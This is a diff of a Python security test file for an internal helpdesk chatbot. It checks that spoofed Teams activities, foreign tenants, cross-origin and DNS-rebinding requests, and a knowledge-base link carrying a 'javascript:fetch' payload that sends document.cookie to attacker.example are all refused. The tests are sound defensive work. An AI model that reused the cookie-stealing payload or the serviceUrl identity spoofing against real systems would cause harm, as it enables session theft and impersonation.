@@ -21,13 +21,18 @@ SALARY_QUESTION = "What are the salary bands for engineers?"
 JSON = {"Content-Type": "application/json"}
 
 
-def unsigned_activity(service_url: str, *, channel: str = "msteams", tenant: str = "tenant-1",
-                      text: str = SALARY_QUESTION) -> dict[str, object]:
+def unsigned_activity(
+    service_url: str, *, channel: str = "msteams", tenant: str = "tenant-1", text: str = SALARY_QUESTION
+) -> dict[str, object]:
     """A Teams message activity as an attacker would post it: no Authorization header, and a
     `serviceUrl` of their own that answers the member lookup with someone else's email."""
     return {
-        "type": "message", "id": f"1{uuid.uuid4().int % 10**12:012d}", "channelId": channel,
-        "serviceUrl": service_url + "/", "text": text, "textFormat": "plain",
+        "type": "message",
+        "id": f"1{uuid.uuid4().int % 10**12:012d}",
+        "channelId": channel,
+        "serviceUrl": service_url + "/",
+        "text": text,
+        "textFormat": "plain",
         "from": {"id": "29:attacker", "name": "Attacker", "aadObjectId": "aad-attacker"},
         "conversation": {"id": "a:1attacker", "conversationType": "personal", "tenantId": tenant},
         "recipient": {"id": "28:deskmate-bot", "name": "Deskmate"},
@@ -40,8 +45,9 @@ async def attacker() -> Recorder:
     """The attacker's own server: it claims the sender is the HR person."""
     rec = Recorder()
     await rec.start()
-    rec.teams_members = {"29:attacker": {"id": "29:attacker", "name": "Ana Ribeiro",
-                                         "email": HR_PERSON, "userPrincipalName": HR_PERSON}}
+    rec.teams_members = {
+        "29:attacker": {"id": "29:attacker", "name": "Ana Ribeiro", "email": HR_PERSON, "userPrincipalName": HR_PERSON}
+    }
     yield rec
     await rec.stop()
 
@@ -60,21 +66,30 @@ async def guarded_server(tmp_path_factory: pytest.TempPathFactory, example_store
     from tests.conftest import free_port
 
     ops_port = free_port()
-    async with deskmate_serve(tmp_path_factory.mktemp("guarded"), store_url=example_store_url,
-                              teams_dev_open="true", teams_tenants="tenant-ours", ops_port=ops_port,
-                              metrics_token="s3cret-metrics") as server:
+    async with deskmate_serve(
+        tmp_path_factory.mktemp("guarded"),
+        store_url=example_store_url,
+        teams_dev_open="true",
+        teams_tenants="tenant-ours",
+        ops_port=ops_port,
+        metrics_token="s3cret-metrics",
+    ) as server:
         server.ops_url = f"http://127.0.0.1:{ops_port}"  # type: ignore[attr-defined]
         yield server
 
 
 async def post(url: str, path: str, body: object, headers: dict[str, str] | None = None) -> tuple[int, str]:
-    async with aiohttp.ClientSession() as http, http.post(
-            f"{url}{path}", data=json.dumps(body) if not isinstance(body, str) else body,
-            headers=headers or JSON) as r:
+    async with (
+        aiohttp.ClientSession() as http,
+        http.post(
+            f"{url}{path}", data=json.dumps(body) if not isinstance(body, str) else body, headers=headers or JSON
+        ) as r,
+    ):
         return r.status, await r.text()
 
 
 # --- 1. Teams without credentials ----------------------------------------------------------------
+
 
 async def test_teams_without_an_app_id_has_no_route_and_answers_nobody(loopback_server, attacker: Recorder) -> None:  # noqa: ANN001
     server = loopback_server
@@ -94,15 +109,15 @@ def test_the_teams_development_flag_is_refused_beyond_loopback(tmp_path: Path) -
 
 async def test_a_tenant_outside_the_allow_list_is_refused(guarded_server, attacker: Recorder) -> None:  # noqa: ANN001
     server = guarded_server
-    status, text = await post(server.url, "/api/messages",
-                              unsigned_activity(attacker.url, tenant="tenant-elsewhere"))
+    status, text = await post(server.url, "/api/messages", unsigned_activity(attacker.url, tenant="tenant-elsewhere"))
     assert status == 403 and "organisation" in text
-    status, _ = await post(server.url, "/api/messages",
-                           unsigned_activity(attacker.url, tenant="Tenant-Ours",
-                                             text="How do I reset my VPN password?"))
+    status, _ = await post(
+        server.url,
+        "/api/messages",
+        unsigned_activity(attacker.url, tenant="Tenant-Ours", text="How do I reset my VPN password?"),
+    )
     assert status == 202
-    await attacker.wait_for(lambda calls: any(c.method == "POST" and "/activities" in c.path
-                                              for c in calls))
+    await attacker.wait_for(lambda calls: any(c.method == "POST" and "/activities" in c.path for c in calls))
     lookups = [c for c in attacker.calls if "members" in c.path]
     assert len(lookups) == 1, "only the allowed tenant's activity reached the member lookup"
 
@@ -112,14 +127,18 @@ async def test_the_open_teams_endpoint_cannot_be_driven_from_a_web_page(guarded_
     its own Origin, or a rebinding Host."""
     server = guarded_server
     body = unsigned_activity(attacker.url, tenant="tenant-ours", channel="emulator")
-    for headers in ({"Content-Type": "text/plain"}, {**JSON, "Origin": "http://attacker.example"},
-                    {**JSON, "Host": "attacker.example:8000"}):
+    for headers in (
+        {"Content-Type": "text/plain"},
+        {**JSON, "Origin": "http://attacker.example"},
+        {**JSON, "Host": "attacker.example:8000"},
+    ):
         status, text = await post(server.url, "/api/messages", body, headers)
         assert status == 403 and "refused" in text, headers
     assert attacker.calls == []  # refused before anything was looked up or answered
 
 
 # --- 3. the web chat, driven from another web page ----------------------------------------------
+
 
 async def test_the_web_chat_refuses_cross_site_and_rebinding_requests(loopback_server) -> None:  # noqa: ANN001
     question = {"user": HR_PERSON, "question": SALARY_QUESTION}
@@ -130,8 +149,10 @@ async def test_the_web_chat_refuses_cross_site_and_rebinding_requests(loopback_s
     # A DNS-rebinding page reaches 127.0.0.1 under its own name.
     status, text = await post(server.url, "/api/ask", question, {**JSON, "Host": "attacker.example"})
     assert status == 403 and "Host" in text
-    async with aiohttp.ClientSession() as http, http.get(f"{server.url}/api/users",
-                                                         headers={"Host": "attacker.example:80"}) as r:
+    async with (
+        aiohttp.ClientSession() as http,
+        http.get(f"{server.url}/api/users", headers={"Host": "attacker.example:80"}) as r,
+    ):
         assert r.status == 403, "the directory must not be readable by a rebinding page"
     # Another origin's script posting JSON (its preflight is never answered; fetch with
     # no-cors still sends the Origin).
@@ -139,13 +160,18 @@ async def test_the_web_chat_refuses_cross_site_and_rebinding_requests(loopback_s
     assert status == 403
     # The page itself still works.
     port = server.url.rsplit(":", 1)[1]
-    status, text = await post(server.url, "/api/ask", {"user": HR_PERSON, "question": "How do I reset my VPN password?"},
-                              {**JSON, "Origin": f"http://127.0.0.1:{port}"})
+    status, text = await post(
+        server.url,
+        "/api/ask",
+        {"user": HR_PERSON, "question": "How do I reset my VPN password?"},
+        {**JSON, "Origin": f"http://127.0.0.1:{port}"},
+    )
     assert status == 200 and '"type": "done"' in text
 
 
 async def test_beyond_loopback_the_web_chat_is_off_and_the_banner_says_where_it_listens(
-        tmp_path: Path, example_store_url: str) -> None:
+    tmp_path: Path, example_store_url: str
+) -> None:
     async with deskmate_serve(tmp_path, host="0.0.0.0", store_url=example_store_url) as server:
         async with aiohttp.ClientSession() as http:
             async with http.get(f"{server.url}/") as r:
@@ -165,6 +191,7 @@ def test_the_web_chat_asked_for_beyond_loopback_needs_an_explicit_yes(tmp_path: 
 
 
 # --- 6. operations endpoints ---------------------------------------------------------------------
+
 
 async def test_metrics_and_readiness_can_be_moved_to_their_own_port_and_need_the_token(guarded_server) -> None:  # noqa: ANN001
     server = guarded_server
@@ -187,6 +214,7 @@ async def test_metrics_and_readiness_can_be_moved_to_their_own_port_and_need_the
 
 # --- links from the knowledge base ---------------------------------------------------------------
 
+
 def test_only_http_links_survive_into_an_answer() -> None:
     from bot.messages import Source, safe_link
 
@@ -208,21 +236,25 @@ async def test_a_javascript_url_in_the_knowledge_base_reaches_no_face(tmp_path: 
 
     kb = tmp_path / "kb"
     kb.mkdir()
-    (kb / "printer.md").write_text("---\ntitle: Printer setup\nurl: javascript:fetch('//attacker.example/'+document.cookie)\n"
-                                   "---\n# Printer setup\n\nTo add the office printer, open Settings, choose "
-                                   "Printers and pick NW-PRINT-01 from the list.\n", encoding="utf-8")
+    (kb / "printer.md").write_text(
+        "---\ntitle: Printer setup\nurl: javascript:fetch('//attacker.example/'+document.cookie)\n"
+        "---\n# Printer setup\n\nTo add the office printer, open Settings, choose "
+        "Printers and pick NW-PRINT-01 from the list.\n",
+        encoding="utf-8",
+    )
     data = tmp_path / "data"
     users = tmp_path / "users.csv"
     users.write_text("email,name,department,groups\nlee@northwind.example,Lee,IT,\n", encoding="utf-8")
     for command in (["ingest", str(kb)], ["users", "import", str(users)]):
-        subprocess.run([DESKMATE, *command], env=serve_env(data), cwd=tmp_path, check=True,
-                       capture_output=True, timeout=300)
+        subprocess.run(
+            [DESKMATE, *command], env=serve_env(data), cwd=tmp_path, check=True, capture_output=True, timeout=300
+        )
     async with deskmate_serve(data) as server:
-        status, text = await post(server.url, "/api/ask", {"user": "lee@northwind.example",
-                                                          "question": "How do I add the office printer?"})
+        status, text = await post(
+            server.url, "/api/ask", {"user": "lee@northwind.example", "question": "How do I add the office printer?"}
+        )
     assert status == 200
     done = [json.loads(line) for line in text.splitlines() if '"done"' in line][-1]["answer"]
     assert done["sources"] and done["sources"][0]["title"] == "Printer setup"
     assert all(not s["url"] for s in done["sources"]), done["sources"]
     assert "javascript:" not in text
-
